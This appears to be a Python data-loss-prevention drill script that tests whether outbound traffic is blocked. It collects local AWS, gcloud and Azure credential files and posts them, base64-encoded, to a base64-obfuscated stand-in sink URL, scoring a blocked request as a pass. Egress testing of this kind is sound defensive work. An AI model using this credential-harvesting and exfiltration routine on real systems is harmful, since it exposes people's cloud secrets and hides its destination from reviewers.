#!/usr/bin/env python3
"""DLP drill: simulated credential exfiltration against a blocked sink."""
import base64
import json
import os
import urllib.request

# blocked sink (on the proxy deny-list) – request is expected to fail
_SINK = base64.b64decode("aHR0cHM6Ly9kbHAtc2luay5zZWN1cml0eS1kcmlsbHMuZXhhbXBsZS9jb2xsZWN0").decode()

_TARGETS = ["~/.aws/credentials", "~/.aws/config", "~/.config/gcloud/credentials.db",
            "~/.config/gcloud/application_default_credentials.json", "~/.azure/accessTokens.json"]


def _material():
    out = {}
    for t in _TARGETS:
        p = os.path.expanduser(t)
        if os.path.isfile(p):
            with open(p, "rb") as fh:
                out[t] = base64.b64encode(fh.read()).decode()
    return out


def main():
    body = json.dumps({"drill": True, "host": os.uname().nodename, "files": _material()}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(_SINK, body, {"Content-Type": "application/json"}), timeout=10)
        print("[drill] egress allowed – FAIL")
    except OSError:
        print("[drill] egress blocked – PASS")


if __name__ == "__main__":
    main()
